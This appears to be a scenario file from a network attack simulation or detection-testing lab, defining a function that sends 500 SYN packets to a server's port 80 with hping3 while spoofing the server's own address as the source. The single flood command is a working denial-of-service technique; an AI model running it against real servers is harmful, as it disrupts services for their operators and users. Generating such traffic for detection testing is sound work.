# shellcheck shell=bash
# about: SYN that claims to come from the target itself (hping3)
# type: attack
# kind: syn_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -S -p 80 -s 80 -k -a "$SERVER_IP"
}
